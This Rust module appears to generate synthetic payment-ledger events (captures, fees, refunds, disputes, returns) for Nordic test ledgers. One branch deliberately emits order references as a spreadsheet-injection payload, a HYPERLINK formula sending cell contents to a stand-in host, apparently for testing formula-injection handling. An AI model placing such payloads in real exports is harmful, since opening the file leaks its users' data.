//! The events of one ledger date, drawn from its random stream before entries are built.
//!
//! This module owns what happens on a date and when: how many captures and of what size,
//! their fees and GDPR details, refunds, disputes of earlier captures and their later returns,
//! and the one unknown entry type of each ledger. `generate.rs` turns the events into entries.

use rand::Rng;
use rand_chacha::ChaCha8Rng;

use super::entry::{Gdpr, DAY_MICROS};
use super::generate::GenState;
use super::profile::{Country, LedgerProfile};

/// Date index (0-based) from which a ledger without a dispute gets one for sure.
const FORCED_DISPUTE_DAY: u32 = 3;
/// Share of captures that are refunded later the same date.
const REFUND_RATE: f64 = 0.04;
/// Chance of a dispute on any date.
const DISPUTE_RATE: f64 = 0.08;

/// A capture that a later entry (refund, dispute, return) refers back to.
#[derive(Clone, Debug)]
pub(super) struct CaptureRef {
    pub psp: String,
    pub reference: String,
    pub amount: i64,
    pub handle: String,
}

/// What an event does to the ledger (amounts are positive; signs are applied later).
pub(super) enum Kind {
    Capture {
        cap: CaptureRef,
        fees: Vec<i64>,
        gdpr: Option<Gdpr>,
    },
    Refund {
        of: CaptureRef,
        psp: String,
        amount: i64,
    },
    Dispute(CaptureRef),
    Return(CaptureRef),
    Unknown {
        psp: String,
        amount: i64,
        handle: String,
    },
}

pub(super) struct Event {
    /// Microseconds after local midnight of the date.
    pub at: i64,
    pub kind: Kind,
}

const FIRST_NAMES: &[&str] = &[
    "Kari", "Ola", "Mette", "Lars", "Aino", "Mikko", "Sofie", "Jens",
];
const LAST_NAMES: &[&str] = &[
    "Nordmann", "Hansen", "Jensen", "Virtanen", "Berg", "Nielsen",
];
const MESSAGES: &[&str] = &[
    "",
    "Kaffe og bolle",
    "Takk!",
    "Kontingent 2026",
    "Lodd",
    "Kiitos",
];

impl GenState {
    fn next_psp(&mut self, profile: &LedgerProfile, rng: &mut ChaCha8Rng) -> String {
        self.psp_counter += 1;
        let base = 3_300_000_000u64 + profile.index as u64 * 40_000_000;
        (base + self.psp_counter * 7 + rng.gen_range(0..7u64)).to_string()
    }

    fn next_reference(&mut self, profile: &LedgerProfile, rng: &mut ChaCha8Rng) -> String {
        self.order_counter += 1;
        if profile.formula_references && self.order_counter % 5 == 0 {
            return format!(
                "=HYPERLINK(\"https://evil.example/?\"&A1,\"{}\")",
                self.order_counter
            );
        }
        if profile.vippsnummer {
            format!(
                "1011{:07}",
                self.order_counter * 13 + rng.gen_range(0..13u64)
            )
        } else {
            format!("{}-{}", profile.order_prefix, 10_000 + self.order_counter)
        }
    }

    /// Draws the date's events and sorts them into time order.
    pub(super) fn draw_events(
        &mut self,
        profile: &LedgerProfile,
        rng: &mut ChaCha8Rng,
        captures_per_day: u32,
    ) -> Vec<Event> {
        let mut events = Vec::new();
        let count = rng.gen_range(captures_per_day / 2..=captures_per_day + captures_per_day / 2);
        for _ in 0..count {
            let at = rng.gen_range(0..DAY_MICROS);
            let unit = &profile.sales_units[rng.gen_range(0..profile.sales_units.len())];
            let amount = capture_amount(profile.country, rng);
            let cap = CaptureRef {
                psp: self.next_psp(profile, rng),
                reference: self.next_reference(profile, rng),
                amount,
                handle: unit.handle.clone(),
            };
            let mut fees = vec![(amount * profile.fee_bps + 5_000) / 10_000];
            if rng.gen_bool(0.3) {
                fees.push(if profile.country == Country::Fi {
                    10
                } else {
                    100
                });
            }
            let gdpr = profile.vippsnummer.then(|| Gdpr {
                name: format!(
                    "{} {}",
                    FIRST_NAMES[rng.gen_range(0..FIRST_NAMES.len())],
                    LAST_NAMES[rng.gen_range(0..LAST_NAMES.len())]
                ),
                masked_phone_no: format!("xxxx {:04}", rng.gen_range(0..10_000)),
                message: MESSAGES[rng.gen_range(0..MESSAGES.len())].to_string(),
            });
            let refund = rng.gen_bool(REFUND_RATE).then(|| {
                let refund_at =
                    (at + rng.gen_range(60_000_000..10_800_000_000)).min(DAY_MICROS - 1);
                let partial = rng.gen_bool(0.3);
                (refund_at, if partial { amount / 2 } else { amount })
            });
            events.push(Event {
                at,
                kind: Kind::Capture {
                    cap: cap.clone(),
                    fees,
                    gdpr,
                },
            });
            if let Some((refund_at, refund_amount)) = refund {
                let psp = self.next_psp(profile, rng);
                events.push(Event {
                    at: refund_at,
                    kind: Kind::Refund {
                        of: cap,
                        psp,
                        amount: refund_amount,
                    },
                });
            }
        }
        let want_dispute = rng.gen_bool(DISPUTE_RATE)
            || (self.disputes == 0 && self.day_index >= FORCED_DISPUTE_DAY);
        if want_dispute && !self.candidates.is_empty() {
            let pick = rng.gen_range(0..self.candidates.len());
            if let Some(cap) = self.candidates.remove(pick) {
                // The first dispute of a ledger is always won back, later ones half the time.
                if self.disputes == 0 || rng.gen_bool(0.5) {
                    let due = self.day_index + rng.gen_range(1..=3);
                    self.pending_returns.push((due, cap.clone()));
                }
                self.disputes += 1;
                events.push(Event {
                    at: rng.gen_range(0..DAY_MICROS),
                    kind: Kind::Dispute(cap),
                });
            }
        }
        let today = self.day_index;
        let (due, later): (Vec<_>, Vec<_>) = self
            .pending_returns
            .drain(..)
            .partition(|(d, _)| *d <= today);
        self.pending_returns = later;
        for (_, cap) in due {
            events.push(Event {
                at: rng.gen_range(0..DAY_MICROS),
                kind: Kind::Return(cap),
            });
        }
        if self.day_index == 0 {
            let psp = self.next_psp(profile, rng);
            let handle = profile.sales_units[0].handle.clone();
            let amount = -rng.gen_range(1..100);
            events.push(Event {
                at: rng.gen_range(0..DAY_MICROS),
                kind: Kind::Unknown {
                    psp,
                    amount,
                    handle,
                },
            });
        }
        events.sort_by_key(|e| e.at);
        events
    }
}

fn capture_amount(country: Country, rng: &mut ChaCha8Rng) -> i64 {
    match country {
        Country::Fi => rng.gen_range(2..=250) * 100 + rng.gen_range(0..100),
        Country::No | Country::Dk => {
            let kroner = if rng.gen_bool(0.05) {
                rng.gen_range(2_500..=25_000)
            } else {
                rng.gen_range(19..=2_499)
            };
            kroner * 100 + if rng.gen_bool(0.25) { 50 } else { 0 }
        }
    }
}
